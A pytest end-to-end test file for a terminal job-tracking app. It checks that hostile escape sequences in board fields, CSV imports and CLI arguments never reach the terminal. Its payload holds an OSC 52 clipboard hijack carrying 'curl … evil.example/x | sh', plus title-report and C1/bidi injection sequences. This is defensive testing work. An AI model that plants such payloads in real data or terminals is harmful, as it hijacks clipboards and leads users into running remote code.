"""No hostile byte reaches the terminal: the raw bytes the real console script writes to a
real pty, through every screen, dialog and CLI command, with hostile text in every field.

The text is what a shared spreadsheet or a hand-edited board can carry: an OSC 52 clipboard
hijack (tmux with ``set-clipboard on`` passes it to the system clipboard), a title change, a
title *report* (the terminal types the answer back), CSI, the one-character C1 forms (U+009B,
U+009D), RLO/RLI, NUL, DEL, VT, FF and BEL. The test fails on any of those in the output, on
any C1 control or NUL at all, on any ESC that does not start a well-formed sequence, and on
any OSC other than the app's own (the pointer shape, and a clipboard copy whose text is clean).
"""

from __future__ import annotations

import base64
import codecs
import csv
import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pexpect
import pytest

from tests.boards import write_raw_board
from tests.cli.conftest import COLUMNS, ROWS, STARTUP_SECONDS, Screen, app_env, console_script
from tests.ui.conftest import card
from tui.model import Interviewer, Outcome, Profile, Stage
from tui.store import Store

pytestmark = pytest.mark.e2e

PAYLOAD = base64.b64encode(b"curl -s http://evil.example/x | sh").decode()
HOSTILE = (
    f"\x1b]52;c;{PAYLOAD}\x1b\\"  # set the clipboard
    "\x1b]2;pwned-title\x07"  # set the window title
    "\x1b[21t"  # report the title: the terminal types it back as input
    "\x1b[3;13;37;41;5m"  # styling no app writes
    "\u009b6n"  # C1 CSI: report the cursor position
    f"\u009d52;c;{PAYLOAD}\u009c"  # C1 OSC 52
    " \u202eexe.txt \u2067rli \x00nul \x7fdel \x0bvt \x0cff \x07bel"
)
FORBIDDEN = {
    "OSC 52 payload": PAYLOAD[:16],
    "title": "pwned-title",
    "title report": "\x1b[21t",
    "injected SGR": "\x1b[3;13;37;41;5m",
    "RLO": "\u202e",
    # Drawn text has no isolate either: tmux gives one a cell where Rich counts none, which
    # shifted every border after it.
    "RLI": "\u2067",
    "DEL": "\x7f",
    "VT": "\x0b",
    "FF": "\x0c",
}
"""Strings that only the hostile text holds (checked in the decoded output)."""

_SEQUENCE = re.compile(
    r"\x1b\[(?P<csi>[0-?]*[ -/]*[@-~])"  # CSI
    r"|\x1b\](?P<osc>[0-9]*);(?P<body>[^\x07\x1b]*)(?:\x07|\x1b\\)"  # OSC
)
OWN_CSI = re.compile(r"[0-9;:]*[mHJKABCDGd]|\?[0-9;]*[hl]|\?[0-9]+\$p|[<>=]?[0-9;]*u")
"""The control sequences Textual writes (measured through the screens of this test): SGR,
cursor moves and erases, private modes, a mode query, the kitty keyboard protocol. Reports
(cursor position, window title, device attributes) and resets are never among them."""
ALLOWED_OSC = {"22"}
"""Textual's own: the mouse pointer's shape. OSC 52 is allowed only as checked below."""


def hostile(label: str) -> str:
    return f"{label}{HOSTILE}"


def problems(text: str) -> list[tuple[int, str]]:
    """Everything in ``text`` the app did not write itself, by position."""
    found = [(text.index(marker), name) for name, marker in FORBIDDEN.items() if marker in text]
    found += [
        (i, f"C1 control {hex(ord(c))}") for i, c in enumerate(text) if 0x80 <= ord(c) <= 0x9F
    ]
    found += [(i, "NUL") for i, c in enumerate(text) if c == "\x00"]
    position = 0
    for match in _SEQUENCE.finditer(text):
        found += _loose(text, position, match.start())
        position = match.end()
        number = match.group("osc")
        csi = match.group("csi")
        if csi is not None and not OWN_CSI.fullmatch(csi):
            found.append((match.start(), f"a control sequence the app never writes: {csi!r}"))
        elif number == "52":  # the app's own copy: clean text only
            copied = base64.b64decode(match.group("body").split(";", 1)[1]).decode("utf-8")
            if "curl" in copied or _UNSAFE.search(copied):
                found.append((match.start(), f"a copy of unclean text {copied!r}"))
        elif number is not None and number not in ALLOWED_OSC:
            found.append((match.start(), f"OSC {number}: {match.group()!r}"))
    found += _loose(text, position, len(text))
    return sorted(found)


def _loose(text: str, start: int, end: int) -> list[tuple[int, str]]:
    """An ESC that starts no sequence, or a BEL that ends none, between start and end."""
    return [
        (i, f"a stray {'ESC' if c == chr(27) else 'BEL'} near {text[max(0, i - 20) : i + 20]!r}")
        for i in range(start, end)
        if (c := text[i]) in "\x1b\x07"
    ]


_UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


def arg(label: str) -> str:
    return hostile(label).replace("\x00", "")


def check_bytes(raw: bytes, where: str) -> None:
    """Fail on anything in ``raw`` that the app did not write itself."""
    found = problems(raw.decode("utf-8", errors="replace"))
    assert not found, f"{where}: {found[:5]}"


@dataclass
class Terminal:
    """The console script in a pty; keeps every byte it writes, by step."""

    child: pexpect.spawn[bytes]
    screen: Screen = field(default_factory=Screen)
    raw: bytearray = field(default_factory=bytearray)
    decoder: codecs.IncrementalDecoder = field(
        default_factory=lambda: codecs.getincrementaldecoder("utf-8")(errors="replace")
    )
    steps: list[tuple[str, int]] = field(default_factory=list)

    def read(self, timeout: float = 0.05) -> None:
        try:
            while True:
                chunk = self.child.read_nonblocking(65536, timeout=timeout)
                self.raw += chunk
                self.screen.feed(self.decoder.decode(chunk))
                timeout = 0.01
        except (pexpect.TIMEOUT, pexpect.EOF):
            pass

    def wait_for(self, text: str, timeout: float = 20.0) -> None:
        deadline = time.monotonic() + timeout
        while text not in self.screen.text:
            self.read()
            if time.monotonic() > deadline or not self.child.isalive():
                raise AssertionError(f"{text!r} never appeared; the screen:\n{self.screen.text}")

    def wait_gone(self, text: str, timeout: float = 20.0) -> None:
        deadline = time.monotonic() + timeout
        while text in self.screen.text:
            self.read()
            if time.monotonic() > deadline or not self.child.isalive():
                raise AssertionError(f"{text!r} stayed; the screen:\n{self.screen.text}")

    def step(self, name: str, keys: str, then: str) -> None:
        """Press ``keys``, wait for ``then``; the bytes from here on are this step's."""
        self.steps.append((name, len(self.raw)))
        self.child.send(keys)
        self.wait_for(then)
        self.read(0.3)  # whatever the step still paints

    def close(self, name: str, shown: str) -> None:
        """Escape from the screen showing ``shown``, back to the board."""
        self.steps.append((f"closing {name}", len(self.raw)))
        self.child.send("\x1b")
        self.wait_gone(shown)
        self.read(0.3)

    def check(self) -> None:
        """The whole session; a failure names the step whose output holds it."""
        text = bytes(self.raw).decode("utf-8", errors="replace")
        starts = [
            (len(bytes(self.raw[:offset]).decode("utf-8", errors="replace")), name)
            for name, offset in self.steps
        ]
        found = [
            (next(name for start, name in reversed(starts) if start <= position), problem)
            for position, problem in problems(text)
        ]
        assert not found, found[:5]


def env_for(home: Path) -> dict[str, str]:
    env = app_env()
    env.pop("DISPLAY", None)  # a copy goes to the terminal clipboard (OSC 52) and a file
    env.pop("WAYLAND_DISPLAY", None)
    env["XDG_CACHE_HOME"] = str(home / "cache")
    return env


@contextmanager
def terminal(*args: str, env: dict[str, str], ready: str) -> Iterator[Terminal]:
    child = pexpect.spawn(console_script(), list(args), env=env, dimensions=(ROWS, COLUMNS))
    term = Terminal(child)
    try:
        term.steps.append(("start", 0))
        term.wait_for(ready, timeout=STARTUP_SECONDS)
        yield term
    finally:
        if child.isalive():
            child.kill(9)
        child.close(force=True)


def hostile_board(path: Path) -> Path:
    """Two cards with hostile text in every field, as a hand-edited file holds it."""
    person = Interviewer(
        name=hostile("Jo"), title=hostile("CTO"), email="jo@example.com", linkedin=hostile("in")
    )
    write_raw_board(
        path,
        [
            card(
                hostile("Evil"),
                Stage.INTERVIEWED,
                2,
                role=hostile("Role"),
                interviewers=(person,),
                key_points=hostile("Points"),
                feedback=hostile("Feedback"),
                notes=hostile("Notes") + "\n" + hostile("More"),
                posting_url=hostile("https://example.com/"),
                connected_via=(hostile("Via"),),
            ),
            card(
                hostile("Linked"),
                Stage.NETWORKED,
                900,
                role=hostile("Role"),
                outcome=Outcome.OFFER,
                connected_via=(hostile("LinkedIn"), hostile("Twitter")),
            ),
        ],
        Profile(
            name=hostile("Alex"),
            email="alex@example.com",
            timezone="UTC",
            signature=hostile("Sig"),
        ),
    )
    assert "\\u001b]52" in path.read_text(encoding="utf-8")  # raw in the file, as a reader finds it
    return path


def test_no_hostile_byte_reaches_the_terminal_from_any_screen(tmp_path: Path) -> None:
    db = hostile_board(tmp_path / "board.json")
    with terminal("--db", str(db), env=env_for(tmp_path), ready="Interviewed 1") as term:
        term.step("card details", "\r", "History")
        term.step("edit form", "e", "Edit card")
        term.close("edit form", "Edit card")
        for name, key, shown in [
            ("stage picker", "m", "Move Evil"),
            ("delete confirm", "d", "Delete this card?"),
            ("next-round dialog", "r", "When is"),
            ("today", "t", "Today: "),
            ("profile form", "p", "Your profile"),
            ("stats", "i", "Your job search"),
            ("help", "?", "followup-tui help"),
        ]:
            term.step(name, key, shown)
            term.close(name, shown)
        term.step("filter", "/", "Filter: company")
        term.step("filter typed", "Evil", "no matches")
        term.close("filter", "no matches")
        term.step("command palette", "\x10", "Add an interview")
        term.step("palette search", "Evil", "Evil")
        term.close("command palette", "Add an interview")
        term.step("draft editor", "\t", "Back to board")
        term.close("draft editor", "Back to board")
        term.step("copy (terminal clipboard)", "c", "terminal clipboard")
        # No display: the mail opener is not run (never a console browser) and says why.
        term.step("mail (o) without a display", "o", "Could not open a mail client")
        term.step("networked card: connected on", "lllll", "LinkedIn")
        term.step("quit", "q", "")
        term.child.expect(pexpect.EOF, timeout=20)
        term.read()
        term.check()
    # And the clipboard's fallback file holds clean text (`cat` replays nothing).
    (draft,) = (tmp_path / "cache").rglob("last-draft.txt")
    check_bytes(draft.read_bytes(), "last-draft.txt")


CLI_COMMANDS = [
    ("list",),
    ("list", "--due"),
    ("list", "--json"),
    ("export", "--format", "json"),
    ("export", "--format", "csv"),
    ("export", "--format", "ics"),
    ("import", "{csv}"),
    ("import", "{csv}", "--yes"),
    # An argument cannot hold NUL (exec refuses it); everything else is there.
    ("add", "--company", arg("Added"), "--role", arg("R"), "--notes", arg("N")),
    ("list",),
]


def test_no_hostile_byte_reaches_the_terminal_from_any_command(tmp_path: Path) -> None:
    db = hostile_board(tmp_path / "board.json")
    sheet = tmp_path / "shared.csv"
    with sheet.open("w", encoding="utf-8", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow(["Company", "Role", "Notes", "Interviewed"])
        for n in range(3):
            rows.writerow([hostile(f"Sheet {n}"), hostile("R"), hostile("N"), "2026-11-20 10:00"])
    assert PAYLOAD.encode() in sheet.read_bytes() and b"\x1b]52" in sheet.read_bytes()
    env = env_for(tmp_path)
    for command in CLI_COMMANDS:
        args = [part.format(csv=sheet) if part == "{csv}" else part for part in command]
        child = pexpect.spawn(console_script(), ["--db", str(db), *args], env=env)
        output = b""
        try:
            if child.expect([pexpect.EOF, rb"\[y/N\] "], timeout=60) == 1:
                output = (child.before or b"") + (child.after or b"")  # type: ignore[operator]
                child.send("n\r")  # the dry run's question: no
                child.expect(pexpect.EOF, timeout=60)
        finally:
            child.close(force=True)
        output += child.before or b""
        name = " ".join(command[:3])
        check_bytes(output, name)
        if command[:3] in (("export", "--format", "csv"), ("export", "--format", "ics")):
            # CSV and ICS are not drawn on a terminal: one line says how to get them.
            assert child.exitstatus == 2, (name, output)
            assert b"is not written to a terminal: add -o FILE, or pipe it" in output
            assert len(output.strip().splitlines()) == 1
        else:
            assert child.exitstatus == 0, (name, output)
        if command[:2] in (("list", "--json"), ("export", "--format")) and "json" in command:
            # JSON says exactly what is stored, with the risky characters escaped.
            assert json.loads(output.decode("utf-8"))
    # What came in through the import and add is stored clean.
    store = Store(db, read_only=True)
    try:
        stored = {card.company: card for card in store.applications()}
    finally:
        store.close()
    assert "Sheet 0 exe.txt" in " ".join(stored).replace("\u2067", "").replace("\u2069", "")
    for each in stored.values():
        for text in (each.company, each.role, each.notes):
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), text
            assert PAYLOAD not in text


def test_a_pipe_still_gets_csv(tmp_path: Path) -> None:
    db = hostile_board(tmp_path / "board.json")
    out = pexpect.run(
        "sh",
        args=["-c", f'"{console_script()}" --db "{db}" export --format csv | cat -v'],
        env=env_for(tmp_path),
        timeout=60,
        withexitstatus=True,
    )
    text, status = out
    assert status == 0
    assert b"Company" in text or b"company" in text
    check_bytes(text, "export csv | cat -v")


def test_the_check_catches_what_used_to_leak() -> None:
    """The checker itself: each hostile piece, written raw, fails it."""
    for piece in [
        f"\x1b]52;c;{PAYLOAD}\x07",
        "\x1b]2;t\x07",
        "\u009b6n",
        "\u202e",
        "a\x00",
        "\x1bc",
    ]:
        with pytest.raises(AssertionError):
            check_bytes(f"x{piece}y".encode(), "sample")
    check_bytes("\x1b[1;31mok\x1b[0m \x1b]22;default\x1b\\ שלום 🎉 é".encode(), "own output")
